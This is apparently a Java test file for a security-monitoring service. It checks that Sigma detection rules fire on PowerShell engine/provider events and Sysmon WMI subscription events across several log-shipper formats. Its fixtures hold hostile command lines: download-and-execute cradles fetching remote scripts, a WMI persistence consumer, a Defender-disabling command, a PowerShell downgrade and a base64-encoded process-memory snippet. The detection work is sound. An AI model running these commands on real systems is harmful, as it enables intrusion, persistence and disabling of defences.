package io.socaas.correlation.sigma.yaml;

import static io.socaas.correlation.sigma.yaml.IngestedEvents.assumeCorpus;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.fired;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.firedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.id;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingestedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.json;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.logsources;
import static org.assertj.core.api.Assertions.assertThat;

import io.socaas.correlation.detection.domain.EventAdmission;
import io.socaas.correlation.sigma.domain.Logsource;
import io.socaas.events.ocsf.OcsfNormalizer;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import org.junit.jupiter.api.Test;

/**
 * The Windows PowerShell log's engine and provider starts (400, 600) and Sysmon's WMI event
 * subscription events (19, 20, 21), as ingestion normalizes them (event-model's {@link
 * OcsfNormalizer}, then {@link EventAdmission}), reach SigmaHQ's {@code ps_classic_start}, {@code
 * ps_classic_provider_start} and {@code wmi_event} rules in every shape Windows events arrive in:
 * flat (NXLog), evtx dump, Winlogbeat and Wazuh, and Snare's one-line text. The rules read {@code
 * Data}, the event's details block ({@code HostApplication=...}), which the flat, Winlogbeat and
 * Snare shapes carry only in the rendered message or the third data string. Each rule fires on the
 * attack and not on a near miss. Events are written after Windows' message texts, Sysmon's event
 * schema and the shippers' documented layouts. Without the corpus ({@code SOCAAS_CORPUS}) the tests
 * are skipped.
 */
class PowerShellClassicAndWmiEventLogsourcesTest {

    private static final String CLASSIC = "rules/windows/powershell/powershell_classic/";
    private static final String WMI = "rules/windows/wmi_event/";
    private static final Logsource PS_CLASSIC_START =
            new Logsource("windows", "ps_classic_start", "powershell-classic");
    private static final Logsource PS_CLASSIC_PROVIDER_START =
            new Logsource("windows", "ps_classic_provider_start", "powershell-classic");
    private static final Logsource WMI_EVENT = new Logsource("windows", "wmi_event", "sysmon");

    // ---- Windows PowerShell log ----------------------------------------------------------------------

    /** One event of the Windows PowerShell log: its id, its three data strings, the message's first line. */
    private record Classic(int eventId, String first, String second, String details, String summary) {

        /** The details block with the given line ending. */
        String details(String eol) {
            return details.replace("\n", eol);
        }

        String message(String eol) {
            return summary + " " + eol + eol + "Details: " + eol + details(eol);
        }
    }

    private static Classic engineStarted(String hostName, String hostApplication, String engineVersion) {
        String details = "\tNewEngineState=Available\n\tPreviousEngineState=None\n\n\tSequenceNumber=13\n\n"
                + "\tHostName=" + hostName + "\n\tHostVersion=5.1.19041.4291\n"
                + "\tHostId=6e0f4a2c-91b7-4d35-a8c2-0b7d3e5f1a94\n"
                + (hostApplication == null ? "" : "\tHostApplication=" + hostApplication + "\n")
                + "\tEngineVersion=" + engineVersion + "\n\tRunspaceId=c41b7e20-3f9a-4d6e-b812-5a0c9e7d2f13\n"
                + "\tPipelineId=\n\tCommandName=\n\tCommandType=\n\tScriptName=\n\tCommandPath=\n\tCommandLine=";
        return new Classic(400, "Available", "None", details, "Engine state is changed from None to Available.");
    }

    private static Classic providerStarted(String provider, String hostApplication) {
        String details = "\tProviderName=" + provider + "\n\tNewProviderState=Started\n\n\tSequenceNumber=5\n\n"
                + "\tHostName=ConsoleHost\n\tHostVersion=5.1.19041.4291\n"
                + "\tHostId=2d8a6c14-7b3e-4f90-a5d1-e6c0b9f27a35\n"
                + "\tHostApplication=" + hostApplication + "\n"
                + "\tEngineVersion=\n\tRunspaceId=\n\tPipelineId=\n\tCommandName=\n\tCommandType=\n\tScriptName=\n"
                + "\tCommandPath=\n\tCommandLine=";
        return new Classic(600, provider, "Started", details, "Provider \"" + provider + "\" is Started.");
    }

    /** NXLog's im_msvistalog: the rendered message, no data strings. */
    private static String nxlog(Classic e) {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("EventTime", "2026-03-01 09:12:44");
        event.put("Hostname", "ACC-WS12.corp.example");
        event.put("EventID", e.eventId());
        event.put("Channel", "Windows PowerShell");
        event.put("SourceName", "PowerShell");
        event.put("Message", e.message("\r\n"));
        return json(event);
    }

    /** An evtx dump: the data strings in EventData's Data as the dumper writes unnamed ones. */
    private static String evtx(Classic e) {
        return json(Map.of(
                "Event",
                Map.of(
                        "System",
                        Map.of(
                                "Provider", Map.of("#attributes", Map.of("Name", "PowerShell")),
                                "EventID", Map.of("#attributes", Map.of("Qualifiers", "0"), "#text", e.eventId()),
                                "TimeCreated",
                                        Map.of("#attributes", Map.of("SystemTime", "2026-03-01T09:12:44.301877Z")),
                                "Channel", "Windows PowerShell",
                                "Computer", "ACC-WS12.corp.example"),
                        "EventData",
                        Map.of(
                                "Data",
                                Map.of(
                                        "#text",
                                        "<string>" + e.first() + "</string>\n<string>" + e.second()
                                                + "</string>\n<string>" + e.details("\n") + "</string>")))));
    }

    /** Winlogbeat: the data strings as param1 to param3, the rendered message as message. */
    private static String winlogbeat(Classic e) {
        return json(Map.of(
                "@timestamp", "2026-03-01T09:12:44.301Z",
                "message", e.message("\n"),
                "winlog",
                        Map.of(
                                "channel", "Windows PowerShell",
                                "event_id", String.valueOf(e.eventId()),
                                "provider_name", "PowerShell",
                                "computer_name", "ACC-WS12.corp.example",
                                "event_data",
                                        Map.of("param1", e.first(), "param2", e.second(), "param3", e.details("\n")))));
    }

    /** Wazuh: the data strings joined by ", ", every backslash doubled and every quote escaped. */
    private static String wazuh(Classic e) {
        String data = e.first() + ", " + e.second() + ", " + e.details("\r\n");
        return json(Map.of(
                "win",
                Map.of(
                        "system",
                                Map.of(
                                        "providerName", "PowerShell",
                                        "eventID", String.valueOf(e.eventId()),
                                        "channel", "Windows PowerShell",
                                        "computer", "ACC-WS12.corp.example",
                                        "message", "\"" + e.message("\r\n") + "\""),
                        "eventdata", Map.of("data", data.replace("\\", "\\\\").replace("\"", "\\\"")))));
    }

    private static final List<Function<Classic, String>> CLASSIC_SHAPES = List.of(
            PowerShellClassicAndWmiEventLogsourcesTest::nxlog, PowerShellClassicAndWmiEventLogsourcesTest::evtx,
            PowerShellClassicAndWmiEventLogsourcesTest::winlogbeat, PowerShellClassicAndWmiEventLogsourcesTest::wazuh);

    /** Snare's form (tab-separated, after a syslog header), the message on one line. */
    private static String snare(Classic e) {
        return "<14>Mar  1 09:12:44 ACC-WS12 MSWinEventLog\t1\tWindows PowerShell\t2231\tSun Mar 01 09:12:44 2026\t"
                + e.eventId() + "\tPowerShell\tN/A\tN/A\tInformation\tACC-WS12.corp.example\t"
                + (e.eventId() == 400 ? "Engine Lifecycle" : "Provider Lifecycle") + "\t\t"
                + e.message("  ").replace("\t", " ") + "\t41";
    }

    private void assertFires(String rule, Classic attack, Classic nearMiss, Logsource logsource) {
        for (Function<Classic, String> shape : CLASSIC_SHAPES) {
            String event = shape.apply(attack);
            assertThat(logsources(ingestedJson(event))).as(event).contains(logsource);
            assertThat(firedJson(event)).as("%s on %s", rule, event).contains(id(rule));
            String near = shape.apply(nearMiss);
            assertThat(firedJson(near)).as("%s on %s", rule, near).doesNotContain(id(rule));
        }
        assertThat(fired(snare(attack))).as("%s on %s", rule, snare(attack)).contains(id(rule));
        assertThat(fired(snare(nearMiss))).as("%s on %s", rule, snare(nearMiss)).doesNotContain(id(rule));
    }

    @Test
    void aDownloadCradleAsTheHostApplicationFiresInEveryShape() {
        assumeCorpus();
        assertFires(
                CLASSIC + "posh_pc_download_via_webclient.yml",
                engineStarted(
                        "ConsoleHost",
                        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/stage.ps1')\"",
                        "5.1.19041.4291"),
                // the same client sending a file out: no download
                engineStarted(
                        "ConsoleHost",
                        "powershell.exe -nop -c \"(New-Object Net.WebClient).UploadString('http://203.0.113.45/r', 'ok')\"",
                        "5.1.19041.4291"),
                PS_CLASSIC_START);
    }

    @Test
    void anEngineOfVersionTwoInANewerHostIsADowngradeAttack() {
        assumeCorpus();
        assertFires(
                CLASSIC + "posh_pc_downgrade_attack.yml",
                engineStarted("ConsoleHost", "powershell.exe -Version 2 -nop -c whoami /priv", "2.0"),
                engineStarted("ConsoleHost", "powershell.exe -nop -c whoami /priv", "5.1.19041.4291"),
                PS_CLASSIC_START);
    }

    @Test
    void aRemotingSessionsHostIsSeenByItsHostName() {
        assumeCorpus();
        String wsmprovhost = "C:\\Windows\\system32\\wsmprovhost.exe -Embedding";
        assertFires(
                CLASSIC + "posh_pc_remote_powershell_session.yml",
                engineStarted("ServerRemoteHost", wsmprovhost, "5.1.19041.4291"),
                engineStarted(
                        "ConsoleHost",
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "5.1.19041.4291"),
                PS_CLASSIC_START);
    }

    @Test
    void defenderTurnedOffByTheHostApplicationFiresOnTheProviderStart() {
        assumeCorpus();
        assertFires(
                CLASSIC + "posh_pc_tamper_windows_defender_set_mp.yml",
                providerStarted(
                        "Registry", "powershell -ep bypass -c Set-MpPreference -DisableRealtimeMonitoring $true"),
                providerStarted(
                        "Registry", "powershell -ep bypass -c Set-MpPreference -DisableRealtimeMonitoring $false"),
                PS_CLASSIC_PROVIDER_START);
    }

    // ---- Sysmon WMI event subscription ----------------------------------------------------------------

    /** Sysmon's fields of a WMI event (19, 20 or 21), as the host has them. */
    private static Map<String, Object> wmi(int eventId, String... fields) {
        Map<String, Object> data = new LinkedHashMap<>();
        data.put("RuleName", "-");
        data.put(
                "EventType",
                switch (eventId) {
                    case 19 -> "WmiFilterEvent";
                    case 20 -> "WmiConsumerEvent";
                    default -> "WmiBindingEvent";
                });
        data.put("UtcTime", "2026-03-01 10:41:07.220");
        data.put("Operation", "Created");
        data.put("User", "CORP\\adm-rkhan");
        for (int i = 0; i < fields.length; i += 2) {
            data.put(fields[i], fields[i + 1]);
        }
        return data;
    }

    private static String sysmonFlat(int eventId, Map<String, Object> data) {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("Channel", "Microsoft-Windows-Sysmon/Operational");
        event.put("EventID", eventId);
        event.put("Hostname", "SQL03.corp.example");
        event.putAll(data);
        return json(event);
    }

    private static String sysmonEvtx(int eventId, Map<String, Object> data) {
        return json(Map.of(
                "Event",
                Map.of(
                        "System",
                        Map.of(
                                "Provider",
                                Map.of("#attributes", Map.of("Name", "Microsoft-Windows-Sysmon")),
                                "EventID",
                                eventId,
                                "Channel",
                                "Microsoft-Windows-Sysmon/Operational",
                                "Computer",
                                "SQL03.corp.example"),
                        "EventData",
                        data)));
    }

    private static String sysmonWinlogbeat(int eventId, Map<String, Object> data) {
        return json(Map.of(
                "winlog",
                Map.of(
                        "channel",
                        "Microsoft-Windows-Sysmon/Operational",
                        "event_id",
                        String.valueOf(eventId),
                        "computer_name",
                        "SQL03.corp.example",
                        "event_data",
                        data)));
    }

    private static String sysmonWazuh(int eventId, Map<String, Object> data) {
        Map<String, Object> eventdata = new LinkedHashMap<>();
        data.forEach((name, value) -> eventdata.put(
                Character.toLowerCase(name.charAt(0)) + name.substring(1),
                String.valueOf(value).replace("\\", "\\\\").replace("\"", "\\\"")));
        return json(Map.of(
                "win",
                Map.of(
                        "system",
                        Map.of(
                                "providerName", "Microsoft-Windows-Sysmon",
                                "eventID", String.valueOf(eventId),
                                "channel", "Microsoft-Windows-Sysmon/Operational",
                                "computer", "SQL03.corp.example"),
                        "eventdata",
                        eventdata)));
    }

    private interface SysmonShape {
        String of(int eventId, Map<String, Object> data);
    }

    private static final List<SysmonShape> SYSMON_SHAPES = List.of(
            PowerShellClassicAndWmiEventLogsourcesTest::sysmonFlat,
            PowerShellClassicAndWmiEventLogsourcesTest::sysmonEvtx,
            PowerShellClassicAndWmiEventLogsourcesTest::sysmonWinlogbeat,
            PowerShellClassicAndWmiEventLogsourcesTest::sysmonWazuh);

    /** A consumer (20) whose action is {@code destination}, as Sysmon quotes it. */
    private static Map<String, Object> consumer(String destination) {
        return wmi(20, "Name", " \"SvcHealth\"", "Type", "Command Line", "Destination", " \"" + destination + "\"");
    }

    @Test
    void everySubscriptionStepIsSeenAndAScriptingConsumerIsSuspicious() {
        assumeCorpus();
        String subscription = id(WMI + "sysmon_wmi_event_subscription.yml");
        String scripting = id(WMI + "sysmon_wmi_susp_scripting.yml");
        Map<String, Object> filter = wmi(
                19,
                "EventNamespace",
                " \"root\\\\cimv2\"",
                "Name",
                " \"SvcHealth\"",
                "Query",
                " \"SELECT * FROM __InstanceModificationEvent WITHIN 120 WHERE TargetInstance ISA"
                        + " 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 300\"");
        Map<String, Object> attack = consumer("powershell.exe -NoP -W Hidden -C iex(New-Object Net.WebClient)"
                + ".DownloadString('http://198.51.100.61/svc.ps1')");
        Map<String, Object> ordinary =
                consumer("C:\\\\Windows\\\\System32\\\\cscript.exe //B C:\\\\ProgramData\\\\Inventory\\\\collect.vbs");
        Map<String, Object> binding = wmi(
                21,
                "Consumer",
                " \"\\\\\\\\.\\\\ROOT\\\\subscription:CommandLineEventConsumer.Name=\\\"SvcHealth\\\"\"",
                "Filter",
                " \"\\\\\\\\.\\\\ROOT\\\\subscription:__EventFilter.Name=\\\"SvcHealth\\\"\"");
        for (SysmonShape shape : SYSMON_SHAPES) {
            for (Map.Entry<Integer, Map<String, Object>> e :
                    Map.of(19, filter, 20, ordinary, 21, binding).entrySet()) {
                String event = shape.of(e.getKey(), e.getValue());
                assertThat(logsources(ingestedJson(event))).as(event).contains(WMI_EVENT);
                assertThat(firedJson(event)).as(event).contains(subscription).doesNotContain(scripting);
            }
            String event = shape.of(20, attack);
            assertThat(firedJson(event)).as(event).contains(subscription, scripting);
        }
    }

    @Test
    void aConsumerRunningAnEncodedPeImageIsSeenThroughItsBase64() {
        assumeCorpus();
        String encoded = id(WMI + "sysmon_wmi_susp_encoded_scripts.yml");
        String script = "$k = Add-Type -MemberDefinition '[DllImport(\"kernel32.dll\")] public static extern bool"
                + " WriteProcessMemory(IntPtr h, IntPtr a, byte[] b, int n, out IntPtr w);' -Name K -PassThru";
        String base64 = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.US_ASCII));
        Map<String, Object> attack = consumer("powershell.exe -NoP -C [Text.Encoding]::ASCII.GetString("
                + "[Convert]::FromBase64String('" + base64 + "'))|iex");
        // the same script in plain text is not what this rule looks for
        Map<String, Object> plain = consumer("powershell.exe -NoP -C " + script.replace("\"", "'"));
        for (SysmonShape shape : SYSMON_SHAPES) {
            assertThat(firedJson(shape.of(20, attack))).as(shape.of(20, attack)).contains(encoded);
            assertThat(firedJson(shape.of(20, plain))).as(shape.of(20, plain)).doesNotContain(encoded);
        }
    }

    @Test
    void aClipboardChangeReachesTheClipboardCategories() {
        assumeCorpus();
        String event = sysmonFlat(
                24,
                Map.of(
                        "UtcTime", "2026-03-01 10:52:31.004",
                        "ProcessId", "5312",
                        "Image", "C:\\Windows\\System32\\rdpclip.exe",
                        "Session", "2",
                        "ClientInfo", "user: CORP\\adm-rkhan hostname: RKHAN-LT",
                        "Hashes", "SHA256=0E5751C026E543B2E8AB2EB06099DAA1D1E5DF47778F7787FAAB45CDF12FE3A8",
                        "Archived", "false"));
        assertThat(logsources(ingestedJson(event)))
                .contains(
                        new Logsource("windows", "clipboard_change", "sysmon"),
                        new Logsource("windows", "clipboard_capture", "sysmon"));
    }
}
